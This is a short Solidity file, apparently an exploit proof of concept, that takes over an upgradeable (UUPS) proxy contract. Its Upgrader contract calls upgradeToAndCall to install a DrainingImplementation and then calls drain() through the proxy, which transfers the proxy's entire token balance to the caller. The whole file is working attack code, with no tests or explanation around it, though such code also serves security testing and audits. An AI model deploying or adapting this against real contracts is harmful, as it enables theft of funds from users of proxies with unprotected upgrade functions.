// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

interface IProxy {
    function upgradeToAndCall(address implementation, bytes calldata data) external payable;
}

/// An implementation that has only one purpose.
contract DrainingImplementation {
    bytes32 public constant proxiableUUID = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function drain(IToken token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}

/// Upgrades by contract, and drains in a call of its own.
contract Upgrader {
    DrainingImplementation immutable implementation = new DrainingImplementation();

    function run(IProxy proxy, IToken token) external {
        proxy.upgradeToAndCall(address(implementation), "");
        DrainingImplementation(address(proxy)).drain(token, msg.sender);
    }
}
